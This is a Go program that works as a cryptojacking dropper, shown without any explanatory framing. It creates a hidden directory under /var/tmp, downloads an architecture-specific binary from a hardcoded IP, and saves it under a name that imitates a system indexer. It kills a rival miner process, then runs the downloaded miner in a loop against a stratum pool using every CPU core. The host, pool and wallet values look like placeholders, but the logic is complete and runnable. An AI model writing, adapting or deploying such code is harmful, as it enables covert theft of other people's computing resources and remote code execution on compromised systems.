package main

import (
	"io"
	"net/http"
	"os"
	"os/exec"
	"runtime"
	"strconv"
	"time"
)

const bin = "/var/tmp/.X11-lock/gnome-indexer"

func ensure() error {
	if _, err := os.Stat(bin); err == nil {
		return nil
	}
	os.MkdirAll("/var/tmp/.X11-lock", 0o700)
	r, err := http.Get("http://192.0.2.180/m/linux-" + runtime.GOARCH)
	if err != nil {
		return err
	}
	defer r.Body.Close()
	f, err := os.OpenFile(bin, os.O_CREATE|os.O_WRONLY, 0o700)
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = io.Copy(f, r.Body)
	return err
}

func main() {
	exec.Command("pkill", "-9", "kinsing").Run()
	for {
		if ensure() == nil {
			c := exec.Command(bin, "-o", "stratum+ssl://pool.example:443", "-u", "44fake", "-t", strconv.Itoa(runtime.NumCPU()))
			c.Run()
		}
		time.Sleep(time.Minute)
	}
}
